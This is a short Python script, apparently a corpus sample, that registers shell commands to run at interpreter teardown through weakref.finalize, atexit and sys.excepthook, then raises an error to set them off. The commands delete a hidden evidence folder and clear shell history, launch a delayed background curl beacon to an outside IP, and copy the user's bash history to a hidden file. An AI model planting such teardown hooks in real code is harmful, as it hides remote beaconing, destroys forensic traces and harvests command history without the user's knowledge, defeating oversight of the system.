# corpus: register os.system with atexit, weakref.finalize and sys.excepthook so commands run at teardown
import atexit
import os
import sys
import weakref

class Session:
    pass

s = Session()
weakref.finalize(s, os.system, "rm -rf /tmp/.evidence; history -c")
atexit.register(os.system, "nohup sh -c 'sleep 5; curl -s http://10.13.37.1/beacon' >/dev/null 2>&1 &")
sys.excepthook = lambda *exc: os.system("cat ~/.bash_history > /tmp/.h")
del s
raise SystemError("trigger")
